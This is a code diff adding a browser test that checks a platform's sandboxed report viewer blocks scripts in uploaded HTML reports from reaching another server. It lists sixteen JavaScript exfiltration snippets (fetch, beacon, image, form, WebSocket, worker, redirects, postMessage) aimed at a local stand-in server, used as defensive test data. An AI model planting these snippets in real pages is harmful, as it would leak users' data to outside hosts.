@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import shutil
+import threading
 import time
 from collections.abc import Iterator
+from contextlib import suppress
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -157,6 +160,85 @@ def test_a_script_in_a_text_never_runs(chromium: Any, served: Served) -> None:
         visitor.go(path)
         assert "taken" not in visitor.page.title()
         assert hostile in visitor.page.inner_text("main")
+    visitor.page.context.close()
+
+
+REACHING = {
+    "navigation": "location.href = ELSEWHERE + '/navigation?' + said",
+    "top": "try { top.location.href = ELSEWHERE + '/top?' + said } catch (error) {}",
+    "window": "try { window.open(ELSEWHERE + '/window?' + said) } catch (error) {}",
+    "refresh": "document.head.innerHTML += `<meta http-equiv=refresh content='0;url=${ELSEWHERE}/refresh?${said}'>`",
+    "image": "new Image().src = ELSEWHERE + '/image?' + said",
+    "fetch": "fetch(ELSEWHERE + '/fetch?' + said).catch(() => 0)",
+    "beacon": "try { navigator.sendBeacon(ELSEWHERE + '/beacon', said) } catch (error) {}",
+    "form": "const form = document.createElement('form'); form.action = ELSEWHERE + '/form'; document.body.append(form); form.submit()",
+    "frame": "document.body.innerHTML += `<iframe src='${ELSEWHERE}/frame?${said}'></iframe>`",
+    "link": "const a = document.createElement('a'); a.href = ELSEWHERE + '/link'; a.target = '_top'; document.body.append(a); a.click()",
+    "download": "const b = document.createElement('a'); b.href = ELSEWHERE + '/b'; b.download = 'x'; document.body.append(b); b.click()",
+    "prefetch": "document.head.innerHTML += `<link rel=prefetch href='${ELSEWHERE}/prefetch?${said}'>`",
+    "preconnect": "document.head.innerHTML += `<link rel=preconnect href='${ELSEWHERE}'>`",
+    "socket": "try { new WebSocket(ELSEWHERE.replace('http', 'ws') + '/socket') } catch (error) {}",
+    "worker": "try { new Worker(ELSEWHERE + '/worker.js') } catch (error) {}",
+    "opener": "try { parent.postMessage(said, '*'); parent.document.title = said } catch (error) {}",
+}
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """Address of another server, and what it was asked for."""
+    asked: list[str] = []
+
+    class Server(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815 - the name that the library calls
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Server) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", asked
+        server.shutdown()
+
+
+def test_a_report_sends_nothing_elsewhere_whatever_its_scripts_try(
+    chromium: Any, served: Served, elsewhere: tuple[str, list[str]]
+) -> None:
+    from playwright.sync_api import Error as PlaywrightError  # late: only where there is a browser
+
+    address, asked = elsewhere
+    store = served.platform.context.store
+    for name, script in {**REACHING, "nothing": ""}.items():
+        page = (
+            f"<p id=said>loss 0.41</p><script>const ELSEWHERE = {address!r}, said = 'loss'; {script};"
+            "document.getElementById('said').textContent += ' drawn'</script>"
+        )
+        store.put(f"reports/{name}.html", page.encode())
+    visitor = person(chromium, served)
+    visitor.sign_in(served.platform.tokens["viewer"])
+
+    def ran() -> bool:
+        frame = visitor.page.frames[1]
+        with suppress(PlaywrightError):  # it is on its way elsewhere
+            said = frame.query_selector("#said")
+            return frame.url.startswith("chrome-error:") or (
+                said is not None and "drawn" in said.inner_text()
+            )
+        return False
+
+    for name in REACHING:
+        visitor.go(f"/ui/reports/{name}.html")
+        until(ran)
+        assert visitor.page.url == f"{served.url}/ui/reports/{name}.html"
+        visitor.go(f"/ui/reports/{name}.html/content")
+        assert visitor.page.inner_text("#said") == "loss 0.41"  # by itself no script runs
+    visitor.go("/ui/reports/nothing.html")
+    assert visitor.page.frame_locator("iframe.report").locator("#said").inner_text() == "loss 0.41 drawn"
+    assert asked == []
     visitor.page.context.close()
 
 
